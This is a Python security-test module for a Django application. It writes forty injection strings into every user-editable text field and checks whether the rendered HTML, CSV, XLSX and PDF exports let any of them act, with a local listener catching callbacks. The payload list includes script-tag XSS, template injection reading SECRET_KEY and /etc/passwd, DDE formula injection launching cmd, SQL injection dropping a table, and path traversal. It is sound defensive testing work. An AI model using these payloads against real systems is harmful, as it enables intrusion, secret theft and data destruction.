"""Forty strings that do harm where text is taken for more than text, and who notices it."""

from __future__ import annotations

import csv
import io
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from typing import Any

import openpyxl
from django.db import IntegrityError, models, transaction
from django.db.models import Value
from django.db.models.functions import Cast, Concat
from pypdf import PdfReader

from tests.security.marking import STRUCTURE, name_of, squeeze, tables, text_fields

# HERE is the address of the listener: whoever calls it has taken text for an order.
PATTERNS = [
    "<script src=HERE/a></script>",
    "<img src=HERE/b onerror=alert(1)>",
    "<link rel=attachment href=file:///etc/hosts>",
    "<a rel=attachment href=HERE/c>x</a>",
    "<style>@import url(HERE/d);</style>",
    "<iframe src=HERE/e></iframe>",
    "<svg/onload=fetch('HERE/f')>",
    "<object data=HERE/g></object>",
    "<embed src=file:///etc/passwd>",
    "<base href=HERE/h>",
    "<meta http-equiv=refresh content=0;HERE/i>",
    "<form action=HERE/j><input name=k></form>",
    "\"><script>alert('k')</script>",
    "' onmouseover='alert(2)",
    "</title><script>alert(3)</script>",
    "</textarea><img src=HERE/l>",
    "--><img src=HERE/m><!--",
    "<![CDATA[<img src=HERE/n>]]>",
    "&lt;img src=HERE/o&gt;",
    "javascript:alert(4)",
    "[klik](HERE/p)",
    "![gambar](HERE/q)",
    "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    '=HYPERLINK("HERE/r","x")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("HERE/s")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=IMPORTXML("HERE/t","//a")',
    "=1;=2",
    "'=1+1",
    "'; DROP TABLE progress_draft; --",
    "1 OR 1=1 /* x */",
    "../../../../etc/passwd",
    "BEGIN:VEVENT;X-INJECT:1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
_ACTS = frozenset({"/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/EmbeddedFiles"})


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """An address of this computer, and who called it."""
    calls: list[str] = []

    class Heard(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            calls.append(self.request.recv(200).decode("latin-1"))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Heard) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}", calls
        finally:
            server.shutdown()
            thread.join()


class Injector:
    """Writes the strings into every text of the house; each round others stand in front."""

    def __init__(self, here: str) -> None:
        self.here = here
        self.strings = [pattern.replace("HERE", here) for pattern in PATTERNS]
        self.pairs: set[tuple[str, str]] = set()
        self.fields: set[str] = set()
        self.kept: set[str] = set()

    def round(self, number: int) -> None:
        """Fill every field anew."""
        for model in tables():
            for place, field in enumerate(_written(model)):
                self._fill(model, field, number * 5 + place * 7)

    def _fill(self, model: Any, field: Any, first: int) -> None:
        room = (field.max_length or 100_000) - 12
        rolled = [self.strings[(first + step) % len(self.strings)] for step in range(40)]
        chosen: list[str] = []
        for text in rolled:
            if len("\n".join([*chosen, text])) <= room:
                chosen.append(text)
        between = "\n" if isinstance(field, models.TextField) else " "
        # The key at the end, for some texts are unique.
        value = Concat(Value(f"{between.join(chosen)} "), Cast("pk", models.CharField()))
        try:
            with transaction.atomic():
                count = model._base_manager.update(**{field.name: value})
        except IntegrityError:
            self.kept.add(name_of(field))
        else:
            if count:
                self.fields.add(name_of(field))
                self.pairs |= {(name_of(field), text) for text in chosen}


def _written(model: type[models.Model]) -> Iterator[models.Field[Any, Any]]:
    """The texts of a table that people write: no keys, and room for a sentence."""
    for field in text_fields(model):
        is_code = field.name in ("code", "short", "key", "name_key", "time_zone", "island_group")
        has_room = field.max_length is None or field.max_length >= 60
        is_typed = not is_code and name_of(field) not in STRUCTURE
        # An address is held to http(s) by its form, and JSON is the frozen copy of such texts.
        if has_room and is_typed and not isinstance(field, models.JSONField | models.URLField):
            yield field


class _Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.acts: list[str] = []
        self.here = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.words += [given[name] for name in ("value", "title", "content") if name in given]
        leads = " ".join(given.get(name, "") for name in ("src", "href", "action", "data"))
        is_local = given.get("src", "/").startswith("/")
        if tag in ("script", "iframe", "img", "embed") and not is_local:
            self.acts.append(f"{tag} {leads}")
        if tag in ("base", "object", "embed", "style") or (tag == "script" and "src" not in given):
            self.acts.append(tag)
        if self.here in leads.split("?")[0] or "javascript:" in leads:
            self.acts.append(f"{tag} {leads}")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh":
            self.acts.append(f"meta {given}")
        self.acts += [f"{tag} {name}" for name in given if name.startswith("on") or name == "style"]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


class Reader:
    """Reads the answers as the programs of their readers would; `wrong` says what acted."""

    def __init__(self, injector: Injector) -> None:
        self.injector = injector
        self.wrong: list[str] = []
        self.read: dict[str, int] = {}
        self.literal: dict[str, set[str]] = {}

    def take(self, name: str, answer: Any) -> None:
        """One answer."""
        kind = answer.headers.get("Content-Type", "").partition(";")[0]
        readers = {
            "text/html": self._html,
            "text/csv": self._csv,
            "application/pdf": self._pdf,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": self._xlsx,
        }
        is_upload = kind == "application/pdf" and b"startxref" not in answer.content
        if kind in readers and answer.status_code < 300 and not is_upload:
            self.read[kind] = self.read.get(kind, 0) + 1
            text, acts = readers[kind](answer.content)
            # The package of a meeting is a page by itself, handed out as a file with its style.
            is_style = name == "meeting-package"
            self.wrong += [f"{name}: {act}" for act in acts if not (is_style and act == "style")]
            self.found(kind, text)

    def found(self, kind: str, text: str) -> None:
        """Note which strings stand in a text letter by letter."""
        plain = squeeze(text)
        seen = {one for one in self.injector.strings if squeeze(one) in plain}
        self.literal.setdefault(kind, set()).update(seen)

    def _html(self, content: bytes) -> tuple[str, list[str]]:
        page = _Page()
        page.here = self.injector.here
        page.feed(content.decode())
        return " ".join(page.words), page.acts

    def _csv(self, content: bytes) -> tuple[str, list[str]]:
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
        cells = [cell for row in rows for cell in row]
        live = [c for c in cells if c.startswith(FORMULA) and not c[1:].replace(",", "").isdigit()]
        return " ".join(cells), [f"formula {cell[:40]}" for cell in live]

    def _xlsx(self, content: bytes) -> tuple[str, list[str]]:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        acts = [f"formula {c.value}" for c in cells if c.data_type == "f"]
        acts += [f"link {c.hyperlink.target}" for c in cells if c.hyperlink]
        return " ".join(str(cell.value) for cell in cells), acts

    def _pdf(self, content: bytes) -> tuple[str, list[str]]:
        document = PdfReader(io.BytesIO(content))
        acts = [f"attachment {name}" for name in document.attachments]
        for number in document.xref_objStm.keys() | document.xref.get(0, {}).keys():
            part = document.get_object(number)
            if isinstance(part, dict):
                acts += [f"{key} of object {number}" for key in part if key in _ACTS]
                if self.injector.here in str(part.get("/URI", "")):
                    acts.append(f"link of object {number}")
        return "".join(page.extract_text() for page in document.pages), acts
